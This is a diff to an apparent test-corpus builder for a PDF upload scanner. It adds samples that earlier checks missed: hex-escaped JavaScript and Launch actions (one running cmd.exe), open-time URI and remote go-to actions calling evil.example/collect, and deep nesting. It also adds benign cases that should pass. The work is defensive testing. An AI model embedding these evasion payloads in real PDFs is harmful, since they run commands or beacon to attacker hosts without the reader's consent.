@@ -232,6 +232,30 @@ export async function buildUploadCorpus(): Promise<UploadCorpus> {
     '/OpenAction << /S /RichMedia >>',
   ];
   actions.forEach((extra, i) => add(`active content ${i}`, handmadePdf({ catalogExtra: extra })));
+  // Issue 8: what passed before. Names as readers decode them (lowercase `#xx`, any case), actions on open
+  // other than going to a page of the file, and nesting past the depth limit (refused, not judged clean).
+  const evasions: Record<string, string> = {
+    'lowercase-escaped JavaScript': '/OpenAction << /S /#4aava#53cript /#4a#53 (app.alert\\(1\\)) >>',
+    'all-lowercase escapes': '/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /JS (app.alert\\(1\\)) >>',
+    'lowercase-escaped Launch': '/OpenAction << /S /#4caunch /F (cmd.exe) >>',
+    'lowercase-escaped EmbeddedFiles': '/Names << /#45mbedded#46iles << /Names [] >> >>',
+    'lowercase-escaped XFA': '/AcroForm << /Fields [] /#58#46#41 (<xdp/>) >>',
+    'lowercase-escaped additional actions': '/#41#41 << /WC << /S /Named /N /Print >> >>',
+    'uri on open': '/OpenAction << /S /URI /URI (https://evil.example/collect) >>',
+    'escaped uri on open': '/OpenAction << /S /#55#52#49 /URI (https://evil.example/collect) >>',
+    'uri after a goto on open': '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>',
+    'uri in a next array on open': '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> << /S /URI /URI (https://evil.example/) >>] >>',
+    'named action on open': '/OpenAction << /S /Named /N /Print >>',
+    'remote go-to on open': '/OpenAction << /S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] >>',
+    'rendition on open': '/OpenAction << /S /Rendition /OP 0 >>',
+    'rich media, escaped': '/OpenAction << /S /#52ich#4dedia >>',
+    'nesting 65 deep': `/Deep ${'['.repeat(66)}${']'.repeat(66)}`,
+    'script under 70 levels': `/Deep ${'<< /A '.repeat(70)}<< /S /JavaScript /JS (x) >>${' >>'.repeat(70)}`,
+    'escaped script under 70 levels': `/Deep ${'['.repeat(70)}<< /S /#4aava#53cript >>${']'.repeat(70)}`,
+  };
+  for (const [label, extra] of Object.entries(evasions)) add(`evasion ${label}`, handmadePdf({ catalogExtra: extra }));
+  add('evasion uri on open, indirect', handmadePdf({ catalogExtra: '/OpenAction 4 0 R', extraObjects: ['<< /S /URI /URI (https://evil.example/) >>'] }));
+  add('evasion script on a page, lowercase-escaped', handmadePdf({ extraObjects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /#6aava#73cript /JS (x) >> >>'], catalogExtra: '/Extra [4 0 R]' }));
   const hidden = await PDFDocument.create();
   hidden.addPage();
   hidden.catalog.set(PDFName.of('OpenAction'), hidden.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
@@ -258,6 +282,10 @@ export async function buildUploadCorpus(): Promise<UploadCorpus> {
   ok('handmade, CRLF', handmadePdf({ eol: '\r\n' }));
   ok('handmade, CR', handmadePdf({ eol: '\r' }));
   ok('handmade, 4 pages', handmadePdf({ pages: 4 }));
+  ok('opens at a page (destination)', handmadePdf({ catalogExtra: '/OpenAction [3 0 R /Fit]' }));
+  ok('opens at a page (GoTo action)', handmadePdf({ catalogExtra: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }));
+  ok('a link to a web page (acts only when clicked)', handmadePdf({ extraObjects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://acme.example/) >> >>'], catalogExtra: '/Extra [4 0 R]' }));
+  ok('nested 60 deep', handmadePdf({ catalogExtra: `/Deep ${'['.repeat(60)}${']'.repeat(60)}` }));
   ok('handmade with an info dictionary', handmadePdf({ extraObjects: ['<< /Title (Signed offer) /Author (Ada) >>'], trailerExtra: '/Info 4 0 R' }));
   ok('our offer letter', letter);
   ok('our signed letter (incremental updates)', signed.signedPdf);
